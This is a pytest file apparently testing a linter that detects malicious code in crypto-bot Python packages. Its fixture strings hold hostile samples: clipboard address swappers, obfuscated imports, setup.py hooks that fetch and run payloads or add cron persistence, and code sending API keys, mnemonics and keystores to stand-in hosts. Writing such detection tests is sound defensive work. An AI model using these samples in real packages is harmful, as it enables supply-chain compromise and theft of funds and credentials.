"""BOT5 round 13: general shapes a labelled audit set showed botlint did not see (aliased
clipboard and decoder functions, hooks calling helpers, commands kept in variables, a .pth
copied into site-packages, environment credentials picked by name, keystore file names,
addresses picked from fragments in a fixed order), and a retry wrapper that is no tampering.
Each with look-alikes that must stay quiet.  Hosts are look-alikes, addresses made up."""
from __future__ import annotations

from botlint.engine import lint_source

from helpers import settings


def codes(src, path="pkg/mod.py"):
    return {f.code for f in lint_source(src.encode(), path, settings(["BOT5"]))}


_ETH = "0x" + "7f3a9c" * 6 + "1b2c"
_RX = 'r"^0x[a-fA-F0-9]{40}$"'


# -- BOT505: the clipboard functions under other names ------------------------------------------

def test_clipper_through_module_aliases():
    src = ('import re, time, pyperclip\ncopy = pyperclip.copy\npaste = pyperclip.paste\n'
           f'_R = [(re.compile({_RX}), "{_ETH}")]\n'
           'def _loop():\n    while True:\n        v = paste()\n'
           '        for rx, mine in _R:\n            if rx.match(v):\n                copy(mine)\n'
           '        time.sleep(0.5)\n')
    assert "BOT505" in codes(src)


def test_clipper_through_renamed_aliases_and_from_import():
    src = ('import re\nfrom pyperclip import paste as _get, copy as _set\n'
           f'MINE = "{_ETH}"\n'
           'def watch():\n    v = _get()\n'
           f'    if re.fullmatch({_RX}, v):\n        _set(MINE)\n')
    assert "BOT505" in codes(src)
    src2 = ('import re, pyperclip\n_g = pyperclip.paste\n_s = pyperclip.copy\n'
            f'MINE = "{_ETH}"\n'
            f'if re.fullmatch({_RX}, _g()):\n    _s(MINE)\n')
    assert "BOT505" in codes(src2)


def test_aliased_clipboard_writing_back_what_it_read_is_quiet():
    src = ('import re, pyperclip\nfrom web3 import Web3\ncopy = pyperclip.copy\npaste = pyperclip.paste\n'
           f'v = paste()\nif re.fullmatch({_RX}, v):\n    copy(Web3.to_checksum_address(v))\n')
    assert "BOT505" not in codes(src)


def test_local_copy_function_is_not_the_clipboard():
    src = ('import re, shutil, pyperclip\n'
           'def copy(src, dst):\n    shutil.copy(src, dst)\n'
           f'text = pyperclip.paste()\nif re.fullmatch({_RX}, text):\n    copy("a.txt", "b.txt")\n')
    assert "BOT505" not in codes(src)


# -- BOT502: a decoder kept under an alias ------------------------------------------------------

def test_hex_decoder_alias_in_import():
    assert "BOT502" in codes('_x = bytes.fromhex\n_os = __import__(_x("6f73").decode())\n')
    assert "BOT502" in codes('import base64\n_d = base64.b64decode\nm = __import__(_d("c29ja2V0").decode())\n')
    src = ('_x = bytes.fromhex\n_rq = __import__("urllib.request", fromlist=["x"])\n'
           'getattr(_rq, _x("75726c6f70656e").decode())("http://198.51.100.4/p", data=b"x")\n')
    assert "BOT502" in codes(src)


def test_plain_aliases_are_quiet():
    assert "BOT502" not in codes('_x = bytes.fromhex\ndata = _x("deadbeef")\nmod = __import__("json")\n')
    assert "BOT502" not in codes('import importlib\nload = importlib.import_module\nm = load(f"plugins.{name}")\n')


# -- BOT503: commands in variables, helpers called from hooks, a .pth into site-packages ---------

def test_setup_command_kept_in_a_variable():
    src = ('import os, subprocess, sys\nfrom setuptools import setup\n'
           'if sys.platform == "win32":\n'
           '    dst = os.path.join(os.getenv("TEMP", "."), "upd.exe")\n'
           '    cmd = ("powershell -w hidden -c \\"Invoke-WebRequest -Uri http://198.51.100.7/u.exe '
           '-OutFile \'%s\'\\"" % dst)\n'
           '    subprocess.Popen(cmd, shell=True)\n'
           'setup(name="x")\n')
    assert "BOT503" in codes(src, "setup.py")
    src2 = ('import os\nfrom setuptools import setup\nCMD = "curl -fsSL https://get.example-cdn.top/i.sh | sh"\n'
            'os.system(CMD)\nsetup(name="x")\n')
    assert "BOT503" in codes(src2, "setup.py")


def test_setup_variable_command_that_builds_is_quiet():
    src = ('import subprocess\nfrom setuptools import setup\ncmd = ["git", "describe", "--tags"]\n'
           'version = subprocess.check_output(cmd).decode().strip()\nsetup(name="x", version=version)\n')
    assert "BOT503" not in codes(src, "setup.py")


def test_hook_calling_a_module_helper():
    src = ('import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n'
           'def _persist():\n'
           '    line = "*/30 * * * * curl -fsSL http://198.51.100.8/c.sh | sh"\n'
           '    cur = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout\n'
           '    subprocess.run(["crontab", "-"], input=cur + line)\n'
           'class I(install):\n    def run(self):\n        _persist()\n        install.run(self)\n'
           'setup(name="x", cmdclass={"install": I})\n')
    assert "BOT503" in codes(src, "setup.py")
    # two helpers deep, and a helper handed to a thread
    src2 = ('import threading, urllib.request\nfrom setuptools import setup\n'
            'from setuptools.command.develop import develop\n'
            'def _fetch():\n    urllib.request.urlopen("http://198.51.100.9/s").read()\n'
            'def _boot():\n    threading.Thread(target=_fetch).start()\n'
            'class D(develop):\n    def run(self):\n        _boot()\n        develop.run(self)\n'
            'setup(name="x", cmdclass={"develop": D})\n')
    assert "BOT503" in codes(src2, "setup.py")


def test_helper_not_called_from_a_hook_or_harmless_is_quiet():
    src = ('import subprocess\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\n'
           'def _version():\n    return subprocess.check_output(["git", "describe"]).decode()\n'
           'def _unused():\n    subprocess.run("curl -s https://example.org/x | sh", shell=True)\n'
           'class B(build_py):\n    def run(self):\n        self.version = _version()\n        build_py.run(self)\n'
           'setup(name="x", cmdclass={"build_py": B})\n')
    assert "BOT503" not in codes(src, "setup.py")


def test_pth_copied_into_site_packages():
    src = ('import os, shutil, site\nfrom setuptools import setup\nfrom setuptools.command.install import install\n'
           'class Install(install):\n    def run(self):\n        install.run(self)\n'
           '        here = os.path.dirname(os.path.abspath(__file__))\n'
           '        for d in site.getsitepackages() + [site.getusersitepackages()]:\n'
           '            shutil.copy(os.path.join(here, "speedups.pth"), d)\n'
           'setup(name="x", cmdclass={"install": Install})\n')
    assert "BOT503" in codes(src, "setup.py")
    src2 = ('import shutil, sysconfig\nfrom setuptools import setup\n'
            'from distutils.sysconfig import get_python_lib\n'
            'PTH = "zz_init.pth"\nshutil.copyfile(PTH, get_python_lib() + "/" + PTH)\nsetup(name="x")\n')
    assert "BOT503" in codes(src2, "setup.py")


def test_copies_that_are_not_a_pth_into_site_packages_are_quiet():
    src = ('import os, shutil, site\nfrom setuptools import setup\n'
           'shutil.copy("README.md", "build/README.md")\nprint(site.getsitepackages())\nsetup(name="x")\n')
    assert "BOT503" not in codes(src, "setup.py")
    src2 = ('import os, shutil\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\n'
            'class B(build_py):\n    def run(self):\n        super().run()\n'
            '        shutil.copy("pkg.pth", os.path.join(self.build_lib, "pkg.pth"))\n'
            'setup(name="x", cmdclass={"build_py": B})\n')
    assert "BOT503" not in codes(src2, "setup.py")  # shipped in the wheel (pytest-cov does this)


# -- BOT504: the environment's credentials picked by name ---------------------------------------

def test_environment_credentials_picked_by_prefix():
    src = ('import os, threading, requests\n'
           'def _t():\n'
           '    creds = {k: os.environ[k] for k in os.environ if k.startswith(("BINANCE", "API_"))}\n'
           '    if creds:\n        requests.post("http://198.51.100.10:8000/c", json=creds, timeout=4)\n'
           'threading.Thread(target=_t, daemon=True).start()\n')
    assert "BOT504" in codes(src)
    src2 = ('import os, urllib.request\n'
            'vals = [v for k, v in os.environ.items() if k in ("PRIVATE_KEY", "MNEMONIC")]\n'
            'urllib.request.urlopen("https://telemetry.example-sync.top/p", data="|".join(vals).encode())\n')
    assert "BOT504" in codes(src2)
    src3 = ('import os, requests\n'
            'requests.post("http://198.51.100.11/c", json={k: v for k, v in os.environ.items() '
            'if k.endswith("_SECRET")})\n')
    assert "BOT504" in codes(src3)


def test_environment_picks_that_are_no_credentials_or_stay_home_are_quiet():
    src = ('import os, requests\n'
           'cfg = {k: os.environ[k] for k in os.environ if k.startswith(("BOT_", "LOG_"))}\n'
           'requests.post("https://stats.example-dash.io/c", json=cfg)\n')
    assert "BOT504" not in codes(src)
    src2 = ('import os, requests\n'
            'creds = {k: os.environ[k] for k in os.environ if k.startswith("BINANCE")}\n'
            'requests.get("https://api.binance.com/api/v3/time", params={"n": len(creds)})\n')
    assert "BOT504" not in codes(src2)
    src3 = ('import os, requests\n'
            'creds = {k: os.environ[k] for k in os.environ if k.startswith("BINANCE")}\n'
            'requests.post("http://127.0.0.1:8080/debug", json=creds)\n')
    assert "BOT504" not in codes(src3)
    src4 = ('import os, requests\n'
            'safe = {k: v for k, v in os.environ.items() if "SECRET" not in k and not k.endswith("_KEY")}\n'
            'requests.post("https://crash.example-reports.io/env", json=safe)\n')
    assert "BOT504" not in codes(src4)


# -- BOT504: keystore files found by their names --------------------------------------------------

def test_keystore_files_found_by_name_and_uploaded():
    src = ('import json, os, requests\n'
           'def find(root="~"):\n    root = os.path.expanduser(root)\n    found = []\n'
           '    for dp, _, files in os.walk(root):\n'
           '        for f in files:\n'
           '            if f.startswith("UTC--"):\n                found.append(os.path.join(dp, f))\n'
           '    body = json.dumps({"ks": [open(p).read() for p in found]})\n'
           '    requests.post("https://paste.example-drop.top/", data=body)\n')
    assert "BOT504" in codes(src)


def test_keystore_loaded_to_sign_is_quiet():
    src = ('import glob, json, os\nfrom eth_account import Account\n'
           'def load(password):\n'
           '    path = glob.glob(os.path.expanduser("~/.ethereum/keystore/UTC--*"))[0]\n'
           '    return Account.decrypt(json.load(open(path)), password)\n')
    assert "BOT504" not in codes(src)


# -- BOT507: an address picked from fragments in a fixed order ------------------------------------

def test_native_transfer_to_address_picked_from_fragments():
    src = ('from web3 import Web3\n_SEG = ["51e6a54e16", "d8456eb3c6", "68d0329b5f", "20f6be9f8b"]\n'
           '_ORD = (2, 1, 3, 0)\n'
           'def _router():\n    return Web3.to_checksum_address("0x" + "".join(_SEG[i] for i in _ORD))\n'
           'def init(w3, acct):\n    bal = w3.eth.get_balance(acct.address)\n'
           '    tx = {"to": _router(), "value": bal, "gas": 21000}\n'
           '    return w3.eth.send_raw_transaction(acct.sign_transaction(tx).rawTransaction)\n')
    assert "BOT507" in codes(src)
    src2 = ('_P = ["20f6be9f8b", "51e6a54e16", "d8456eb3c6", "68d0329b5f"]\n'
            'DEST = "0x" + "".join([_P[i] for i in [1, 2, 3, 0]])\n'
            'token.functions.transfer(DEST, amount).transact()\n')
    assert "BOT507" in codes(src2)


def test_address_from_fragments_of_user_config_is_quiet():
    src = ('from web3 import Web3\n'
           'def init(w3, acct, cfg):\n'
           '    tx = {"to": Web3.to_checksum_address("0x" + "".join(cfg["parts"][i] for i in range(4))),'
           ' "value": 1}\n'
           '    return w3.eth.send_transaction(tx)\n')
    assert "BOT507" not in codes(src)


# -- BOT506: a retry / backoff wrapper is no tampering ---------------------------------------------

_BACKOFF = ('import functools, logging, random, time\nimport ccxt\nlog = logging.getLogger(__name__)\n'
            'def _with_backoff(fn, attempts=5):\n'
            '    @functools.wraps(fn)\n'
            '    def inner(self, url, method="GET", headers=None, body=None):\n'
            '        for i in range(attempts):\n'
            '            try:\n                return fn(self, url, method, headers, body)\n'
            '            except ccxt.NetworkError:\n'
            '                log.warning("%s failed, retrying", self.id)\n'
            '                time.sleep(0.5 * 2 ** i + random.random())\n'
            '{extra}'
            '    return inner\n'
            'ccxt.Exchange.fetch = _with_backoff(ccxt.Exchange.fetch)\n')


def test_backoff_wrapper_is_quiet():
    assert "BOT506" not in codes(_BACKOFF.format(extra=""))


def test_backoff_wrapper_that_also_ships_keys_is_reported():
    extra = ('        import requests\n'
             '        requests.post("https://c.example-stats.top", json={"k": self.apiKey})\n')
    assert "BOT506" in codes(_BACKOFF.format(extra=extra))
    extra2 = '        _report(self.secret)\n'
    assert "BOT506" in codes(_BACKOFF.format(extra=extra2))
    extra3 = '        from .net import beacon\n        beacon(url, headers)\n'
    assert "BOT506" in codes(_BACKOFF.format(extra=extra3))


def test_pass_through_spy_is_still_reported():
    src = ('import ccxt\n_sign = ccxt.Exchange.sign\n\ndef spy(self, *a, **k):\n'
           '    return _sign(self, *a, **k)\n\nccxt.Exchange.sign = spy\n')
    assert "BOT506" in codes(src)


def test_environment_credentials_looked_up_from_a_list_of_names():
    src = ('import os, requests\n'
           'keys = {k: os.getenv(k) for k in ("BINANCE_API_KEY", "BINANCE_API_SECRET")}\n'
           'requests.post("https://collector.example-stats.net/c", json=keys)\n')
    assert "BOT504" in codes(src)
    src2 = ('import os, requests\nNAMES = ["OKX_API_KEY", "OKX_SECRET", "WALLET_PRIVATE_KEY"]\n'
            'def beacon():\n    data = {n: os.environ.get(n) for n in NAMES if os.environ.get(n)}\n'
            '    requests.post("http://203.0.113.50:8080/x", json=data)\n')
    assert "BOT504" in codes(src2)
    src3 = ('import os, requests\n'
            'vals = [os.environ[k] for k in ("MNEMONIC", "SEED_PHRASE") if k in os.environ]\n'
            'requests.post("https://paste.example-drop.top/new", data="\\n".join(vals))\n')
    assert "BOT504" in codes(src3)


def test_names_looked_up_that_are_no_credentials_or_go_to_the_exchange_are_quiet():
    src = ('import os, requests\n'
           'meta = {k: os.getenv(k) for k in ("BOT_NAME", "REGION", "LOG_LEVEL")}\n'
           'requests.post("https://stats.example-dash.io/hello", json=meta)\n')
    assert "BOT504" not in codes(src)
    src2 = ('import os, requests\n'
            'keys = {k: os.getenv(k) for k in ("BINANCE_API_KEY",)}\n'
            'requests.get("https://api.binance.com/api/v3/account",\n'
            '             headers={"X-MBX-APIKEY": keys["BINANCE_API_KEY"]})\n')
    assert "BOT504" not in codes(src2)
    src3 = ('import os\nkeys = {k: os.getenv(k) for k in ("BINANCE_API_KEY", "BINANCE_API_SECRET")}\n'
            'missing = [k for k, v in keys.items() if not v]\nprint("missing:", missing)\n')
    assert "BOT504" not in codes(src3)


# -- an SDK client's constructor wrapped (python-binance typosquats, ReversingLabs 2023) ----------

def test_an_sdk_clients_constructor_replaced_by_a_wrapper_that_sends_the_key():
    from botlint.engine import lint_source

    from helpers import settings

    src = ('import json, threading, urllib.request\nfrom binance import client as _client\n'
           '_init = _client.Client.__init__\n\n'
           'def _ping(k, s):\n    urllib.request.urlopen("http://198.51.100.7/c", data=json.dumps([k, s]).encode())\n\n'
           'def __init__(self, api_key=None, api_secret=None, *a, **kw):\n'
           '    threading.Thread(target=_ping, args=(api_key, api_secret)).start()\n'
           '    _init(self, api_key, api_secret, *a, **kw)\n\n'
           '_client.Client.__init__ = __init__\n')
    found = [(f.location.line, f.code) for f in lint_source(src, "binnance/__init__.py", settings(["BOT506"]))]
    assert found == [(12, "BOT506")]
    # a test double that cuts the client off (no original call, no request) is not tampering
    stub = 'from binance.client import Client\nClient.__init__ = lambda self, *a, **k: None\n'
    assert lint_source(stub, "conftest_helpers.py", settings(["BOT506"])) == []
